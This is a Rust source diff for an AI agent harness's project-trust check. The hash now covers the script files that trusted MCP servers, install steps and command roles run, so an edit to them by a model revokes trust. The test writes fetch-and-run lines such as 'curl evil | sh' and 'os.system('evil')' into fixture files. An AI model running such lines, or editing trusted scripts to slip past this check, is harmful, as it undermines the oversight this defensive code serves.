@@ -88,8 +88,11 @@ fn trust_file() -> Option<PathBuf> {
 }
 
 /// A hash of what trust covers: the widening settings of `.baton/config.toml` (their names and
-/// values) and the widening role files of `.baton/roles/` (by name and whole content). A change
-/// to anything else (a harmless setting, a prompt-only role) keeps the trust.
+/// values), the widening role files of `.baton/roles/` (by name and whole content), and the
+/// project files those settings and roles run ([`run_files`]: `python3 tools/mcp.py`, `sh
+/// setup.sh`, `./bin/codex`), so a model that edits a script a trusted setting runs makes the
+/// project untrusted again. A change to anything else (a harmless setting, a prompt-only role,
+/// a file nothing runs) keeps the trust.
 pub fn project_hash(root: &Path) -> String {
     let mut h = Sha256::new();
     let mut feed = |label: &str, bytes: &[u8]| {
@@ -105,31 +108,109 @@ pub fn project_hash(root: &Path) -> String {
         let mut stripped = table.clone();
         for key in strip_widening(&mut stripped) {
             feed(&key, lookup(&table, &key).as_bytes());
+            let value = lookup_value(&table, &key).unwrap_or(toml::Value::Boolean(false));
+            for file in run_files(root, &value) {
+                feed(
+                    &file.display().to_string(),
+                    &std::fs::read(&file).unwrap_or_default(),
+                );
+            }
         }
     }
-    for (name, path) in widening_roles(root) {
+    for (name, path, command) in widening_roles(root) {
         feed(&name, &std::fs::read(&path).unwrap_or_default());
+        let words = toml::Value::Array(command.into_iter().map(toml::Value::String).collect());
+        for file in run_files(root, &words) {
+            feed(
+                &file.display().to_string(),
+                &std::fs::read(&file).unwrap_or_default(),
+            );
+        }
     }
     let digest = h.finalize();
     let hex: String = digest.iter().map(|b| format!("{b:02x}")).collect();
     format!("sha256:{hex}")
 }
 
-/// The value at a dotted key, as TOML text (empty when absent).
-fn lookup(table: &toml::Table, key: &str) -> String {
+/// The value at a dotted key.
+fn lookup_value(table: &toml::Table, key: &str) -> Option<toml::Value> {
     let mut parts = key.split('.');
-    let Some(first) = parts.next() else {
-        return String::new();
-    };
-    let mut v = table.get(first);
+    let mut v = parts.next().and_then(|first| table.get(first));
     for k in parts {
         v = v.and_then(|x| x.get(k));
     }
-    v.map(ToString::to_string).unwrap_or_default()
+    v.cloned()
 }
 
-/// The project's role files that widen what runs: (role name and what it asks, file).
-fn widening_roles(root: &Path) -> Vec<(String, PathBuf)> {
+/// The value at a dotted key, as TOML text (empty when absent).
+fn lookup(table: &toml::Table, key: &str) -> String {
+    lookup_value(table, key)
+        .map(|v| v.to_string())
+        .unwrap_or_default()
+}
+
+/// At most this many files of the project are hashed for one setting.
+const MAX_RUN_FILES: usize = 256;
+
+/// The project files a setting's value runs: every word of its strings (a command line is
+/// split on white space) that names a file inside the project, taken from the project root or
+/// from a `cwd` the value sets (an MCP server's), and beside each such file the files of the
+/// same folder with the same extension (the modules a script imports from its own folder).
+/// Sorted, at most [`MAX_RUN_FILES`].
+fn run_files(root: &Path, value: &toml::Value) -> Vec<PathBuf> {
+    fn words(v: &toml::Value, out: &mut Vec<String>, cwds: &mut Vec<String>) {
+        match v {
+            toml::Value::String(s) => out.extend(s.split_whitespace().map(str::to_string)),
+            toml::Value::Array(a) => a.iter().for_each(|x| words(x, out, cwds)),
+            toml::Value::Table(t) => {
+                for (k, x) in t {
+                    if let (true, Some(c)) = (k == "cwd", x.as_str()) {
+                        cwds.push(c.to_string());
+                    }
+                    words(x, out, cwds);
+                }
+            }
+            _ => {}
+        }
+    }
+    let Ok(root) = root.canonicalize() else {
+        return Vec::new();
+    };
+    let (mut ws, mut cwds) = (Vec::new(), Vec::new());
+    words(value, &mut ws, &mut cwds);
+    let bases: Vec<PathBuf> = std::iter::once(root.clone())
+        .chain(cwds.iter().map(|c| root.join(c)))
+        .collect();
+    let mut files = std::collections::BTreeSet::new();
+    for w in &ws {
+        let w = w.trim_matches(|c| c == '"' || c == '\'');
+        if w.is_empty() || w.starts_with('-') {
+            continue;
+        }
+        for base in &bases {
+            let Ok(file) = base.join(w).canonicalize() else {
+                continue;
+            };
+            if !file.starts_with(&root) || !file.is_file() {
+                continue;
+            }
+            let ext = file.extension().map(ToOwned::to_owned);
+            if let Some(siblings) = file.parent().and_then(|d| std::fs::read_dir(d).ok()) {
+                files.extend(
+                    siblings.flatten().map(|e| e.path()).filter(|p| {
+                        p.is_file() && ext.is_some() && p.extension() == ext.as_deref()
+                    }),
+                );
+            }
+            files.insert(file);
+        }
+    }
+    files.into_iter().take(MAX_RUN_FILES).collect()
+}
+
+/// The project's role files that widen what runs: (role name and what it asks, file, the
+/// `command` it runs).
+fn widening_roles(root: &Path) -> Vec<(String, PathBuf, Vec<String>)> {
     baton_roles::load_dir(
         &root.join(".baton/roles"),
         baton_protocol::role::RoleSource::Project,
@@ -141,7 +222,11 @@ fn widening_roles(root: &Path) -> Vec<(String, PathBuf)> {
         let baton_protocol::role::RoleSource::Project(path) = &r.source else {
             return None;
         };
-        Some((format!("{} ({what})", r.meta.name), PathBuf::from(path)))
+        Some((
+            format!("{} ({what})", r.meta.name),
+            PathBuf::from(path),
+            r.meta.command.clone().unwrap_or_default(),
+        ))
     })
     .collect()
 }
@@ -299,6 +384,55 @@ pub fn widening_now(root: &Path) -> (Vec<String>, Vec<String>) {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    /// Trust covers what runs, not only what is set: a model that edits the script a trusted
+    /// MCP server, install step or command role runs (or a module beside it) makes the project
+    /// untrusted again; a file nothing runs does not.
+    #[test]
+    fn the_files_a_trusted_setting_runs_are_in_the_hash() {
+        let d = tempfile::tempdir().unwrap();
+        let root = d.path();
+        let write = |rel: &str, text: &str| {
+            let p = root.join(rel);
+            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+            std::fs::write(p, text).unwrap();
+        };
+        write(
+            ".baton/config.toml",
+            "[mcp_servers.tools]\ncommand = \"python3\"\nargs = [\"mcp.py\"]\ncwd = \"tools\"\n\
+             [workflow]\ninstall = \"sh setup.sh --quiet\"\n",
+        );
+        write(
+            ".baton/roles/checker.md",
+            "---\nname: checker\ndescription: Checks.\ntools: []\nbackend: command\ncommand: [sh, scripts/check.sh]\n---\nCheck.\n",
+        );
+        write("tools/mcp.py", "import helper\n");
+        write("tools/helper.py", "print(1)\n");
+        write("setup.sh", "npm ci\n");
+        write("scripts/check.sh", "true\n");
+        write("README.md", "hi\n");
+        let first = project_hash(root);
+        write("README.md", "changed\n");
+        assert_eq!(
+            project_hash(root),
+            first,
+            "a file nothing runs keeps the trust"
+        );
+        for (file, text) in [
+            ("tools/mcp.py", "import os; os.system('evil')\n"),
+            ("tools/helper.py", "evil()\n"),
+            ("setup.sh", "curl evil | sh\n"),
+            ("scripts/check.sh", "evil\n"),
+        ] {
+            let before = project_hash(root);
+            write(file, text);
+            assert_ne!(
+                project_hash(root),
+                before,
+                "{file} is run by a trusted setting"
+            );
+        }
+    }
 
     #[test]
     fn widening_keys_are_stripped_and_narrowing_ones_kept() {
